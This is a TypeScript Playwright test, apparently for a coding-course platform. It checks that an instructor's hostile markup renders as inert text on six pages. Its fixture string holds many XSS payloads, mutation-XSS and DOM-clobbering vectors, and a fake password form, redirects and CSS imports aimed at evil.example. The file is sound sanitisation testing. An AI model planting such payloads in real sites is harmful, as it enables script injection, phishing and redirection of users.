import { afterAll, beforeAll, expect, test } from '@jest/globals';
import type { Browser, Page } from 'playwright-core';
import { contentHash } from '../../grading/catalogue/content-hash.ts';
import type { Exercise } from '../../grading/catalogue/exercise.ts';
import { webDir } from '../../platform/config/paths.ts';
import { startApi, type TestApi } from '../support/api.ts';
import { makeExercise, publish } from '../support/api-exercises.ts';
import { openBrowser } from '../support/browser.ts';
import { withTestDatabase } from '../support/database.ts';
import { signedInContext, watchForMischief } from '../support/web-page.ts';

/** An instructor who writes scripts into all that learners and colleagues are shown. */
const db = withTestDatabase();
const TEST_MS = 120_000;
const MARKUP = '<img src=x onerror=hacked=1><script>hacked=1</script>"\'><svg onload=hacked=1>';
const STATEMENT = `# ${MARKUP}

[a](javascript:hacked=1) [b](data:text/html,<script>hacked=1</script>) [c](vbscript:hacked=1)
![d](javascript:hacked=1) ![e](https://evil.example/pixel.png) <https://evil.example/"onmouseover=hacked=1>
[f]: javascript:hacked=1
[f] [g](java&#115;cript:hacked=1) [h](//evil.example/%00)

<iframe srcdoc="<script>parent.hacked=1</script>"></iframe><object data="javascript:hacked=1"></object>
<form action="https://evil.example/"><input name="password"><button>Sign in</button></form>
<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">
<style>@import url(https://evil.example/x.css); body { background: url(https://evil.example/y) }</style>
<a id="location" name="cookie" href="x" style="position:fixed;inset:0">clobber</a>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hacked=1&gt;">

\`\`\`python"><script>hacked=1</script>
print("${MARKUP.replaceAll('"', '')}")
\`\`\`
`;
let api: TestApi;
let browser: Browser;
let page: Page;
let mischief: readonly string[];
let cohortId: string;
/** Requests to elsewhere that the policy did not stop. */
const left: string[] = [];

const hostile = (): Exercise => {
  const plain = makeExercise('word-count', { title: MARKUP });
  const exercise: Exercise = {
    ...plain,
    ...{ summary: MARKUP, statement: STATEMENT, contentHash: '' },
    groups: plain.groups.map((group) => ({ ...group, title: MARKUP, hint: MARKUP })),
    starters: { python: [{ path: 'main.py', content: `# ${MARKUP}\n` }] },
  };
  return { ...exercise, contentHash: contentHash(exercise) };
};

beforeAll(async () => {
  await publish(db.database, [hostile()]);
  api = await startApi(db.database, { webDir });
  const { username, token } = await api.newUser();
  const data = { role: 'instructor', displayName: MARKUP } as const;
  await db.database.prisma.user.update({ where: { username }, data });
  const made = await api.call('POST', 'cohorts', { token, body: { name: MARKUP.slice(0, 80) } });
  cohortId = (made.json as { id: string }).id;
  browser = await openBrowser();
  const context = await signedInContext(browser, api.origin, username, { timeoutMs: 30_000 });
  page = await context.newPage();
  mischief = await watchForMischief(page, api.origin);
  page.on('requestfinished', (request) => {
    if (!request.url().startsWith(api.origin)) left.push(request.url());
  });
}, TEST_MS);
afterAll(async () => {
  await browser.close();
  await api.close();
});

test.each([
  ['the roadmap', () => '/'],
  ['the exercise', () => '/exercises/word-count'],
  ['the desk', () => '/desk'],
  ['the cohort', () => `/desk/cohorts/${cohortId}`],
  ['the desk’s exercise', () => '/desk/exercises/word-count'],
  ['the account', () => '/account'],
])(
  'markup, links and forms of an author are text on the page of %s',
  async (_name, address) => {
    await page.goto(`${api.origin}${address()}`);
    await page.locator('main h1, main h2, main li').first().waitFor();
    await page.waitForLoadState('networkidle');
    expect(await page.evaluate('typeof hacked')).toBe('undefined');
    expect(page.url()).toBe(`${api.origin}${address()}`);
    const dangerous =
      await page.evaluate(`[...document.querySelectorAll('a[href], iframe, object, embed, base, form[action], meta[http-equiv], main style, main svg [onload], [onerror]')]
      .filter((one) => one.tagName !== 'A' || !/^(https?:|mailto:|#)/.test(one.href))
      .map((one) => one.outerHTML)`);
    expect(dangerous).toEqual([]);
    expect(await page.evaluate('document.baseURI')).toContain(api.origin);
    expect(left).toEqual([]);
    expect(mischief.filter((one) => /^(dialog|error)/.test(one))).toEqual([]);
  },
  TEST_MS,
);
